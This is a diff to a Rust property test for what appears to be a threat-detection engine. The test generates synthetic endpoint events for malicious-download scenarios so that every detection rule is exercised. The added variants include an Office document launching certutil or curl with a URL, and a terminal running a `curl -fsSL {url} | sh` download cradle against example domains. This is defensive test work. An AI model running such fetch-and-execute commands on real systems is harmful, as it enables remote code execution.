@@ -33,7 +33,9 @@ struct Episode {
     /// Mark-of-the-Web is removed, then it runs (motw-removed-run); 4: a disk image, then a
     /// program on a mounted volume (container-run); 5: the file's origin is a `blob:` URL
     /// (html-smuggling); 6: a .dmg whose quarantine is removed, then a program on a mounted
-    /// volume (macos-quarantine-stripped).
+    /// volume (macos-quarantine-stripped); 7: an Office document starts a LOLBIN with the URL,
+    /// which downloads (office-lolbin); 8: the browser also starts a terminal running a
+    /// `curl | sh` cradle (terminal-cradle).
     variant: u8,
 }
 
@@ -48,7 +50,7 @@ fn episode() -> impl Strategy<Value = Episode> {
         any::<bool>(),
         any::<bool>(),
         any::<bool>(),
-        0u8..7,
+        0u8..9,
     )
         .prop_map(|(host, start_s, risky, click, via_dns, write_after_s, partial, run_it, pid_keys, variant)| {
             Episode { host, start_s, risky, click, via_dns, write_after_s, partial, run_it, pid_keys, variant }
@@ -78,7 +80,7 @@ fn stream(episodes: &[Episode]) -> Vec<Event> {
         // Distinct millisecond offsets per episode keep every timestamp unique.
         let t = |s: f64| T0 + (f64::from(e.start_s) * 1000.0 + s * 1000.0) as i64 + i64::from(n) * 7;
         let key = |i: u32| if e.pid_keys { ProcKey::Pid(1000 + n * 10 + i) } else { ProcKey::Id(format!("g-{n}-{i}")) };
-        let (browser, dir) = match os {
+        let (mut browser, dir) = match os {
             Os::Windows => (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Users\u\Downloads\"),
             Os::Linux => ("/usr/lib/firefox/firefox", "/home/u/Downloads/"),
             Os::Macos => ("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "/Users/u/Downloads/"),
@@ -86,13 +88,24 @@ fn stream(episodes: &[Episode]) -> Vec<Event> {
         let domain = if e.risky { format!("files-{n}.example.top") } else { format!("site{n}.example.org") };
         let url = format!("https://{domain}/get");
         let ip: IpAddr = format!("203.0.113.{}", n % 250 + 1).parse().unwrap();
-        let cmd = if e.click { format!("{browser} {url}") } else { browser.to_owned() };
-        let mail = match os {
+        let mut mail = match os {
             Os::Windows => r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
             Os::Linux => "/usr/lib/thunderbird/thunderbird",
             Os::Macos => "/System/Applications/Mail.app/Contents/MacOS/Mail",
         };
-        let parent = (e.variant == 2).then(|| key(3));
+        if e.variant == 7 {
+            // An Office root (a link source of class office) and a LOLBIN in the browser's place.
+            (mail, browser) = match os {
+                Os::Windows => (
+                    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+                    r"C:\Windows\System32\certutil.exe",
+                ),
+                Os::Linux => ("/usr/lib/libreoffice/program/soffice.bin", "/usr/bin/curl"),
+                Os::Macos => ("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "/usr/bin/curl"),
+            };
+        }
+        let cmd = if e.click { format!("{browser} {url}") } else { browser.to_owned() };
+        let parent = (e.variant == 2 || e.variant == 7).then(|| key(3));
         if let Some(p) = &parent {
             b.push(t(-1.0), host, os, start(p.clone(), None, mail, mail));
         }
@@ -112,7 +125,14 @@ fn stream(episodes: &[Episode]) -> Vec<Event> {
             b.push(t(0.3), host, os, EventKind::Connect { proc: key(1), dst_ip: hop_ip, dst_port: 443, domain: hop });
         }
         let named = (!e.via_dns).then(|| domain.clone());
-        b.push(t(0.6), host, os, EventKind::Connect { proc: key(1), dst_ip: ip, dst_port: 443, domain: named });
+        b.push(t(0.6), host, os, EventKind::Connect { proc: key(1), dst_ip: ip, dst_port: 443, domain: named.clone() });
+        if e.variant == 8 {
+            let cradle = format!("bash -c \"curl -fsSL {url} | sh\"");
+            b.push(t(0.65), host, os, start(key(4), Some(key(0)), "/usr/bin/xterm", &format!("xterm -e {cradle}")));
+            b.push(t(0.7), host, os, start(key(5), Some(key(4)), "/usr/bin/bash", &cradle));
+            b.push(t(0.75), host, os, start(key(6), Some(key(5)), "/usr/bin/curl", &format!("curl -fsSL {url}")));
+            b.push(t(0.8), host, os, EventKind::Connect { proc: key(6), dst_ip: ip, dst_port: 443, domain: named });
+        }
         let ext = match e.variant {
             2 | 4 => "iso",
             3 => "exe",
@@ -460,7 +480,7 @@ fn generated_streams_do_alert() {
 fn generated_streams_fire_every_rule() {
     // Guards the properties against vacuity for each rule: the variants of the generator make
     // every registered rule alert, on every OS whose analytic it refines.
-    let eps: Vec<Episode> = (0..21)
+    let eps: Vec<Episode> = (0..27)
         .map(|i| Episode {
             host: (i % 3) as u8,
             start_s: i * 100,
@@ -477,6 +497,7 @@ fn generated_streams_fire_every_rule() {
     let out = records(engine(1_000), stream(&eps));
     for rule in RULES {
         let tag = format!("\"rule\":\"{}\"", rule.header.id);
+        // On the OSes of the analytics it refines (a variant may exist on one OS only).
         for analytic in rule.header.refines {
             let hit = out.iter().any(|r| r.contains(&tag) && r.contains(analytic));
             assert!(hit, "no {analytic} alert of rule {}: {out:#?}", rule.header.id);
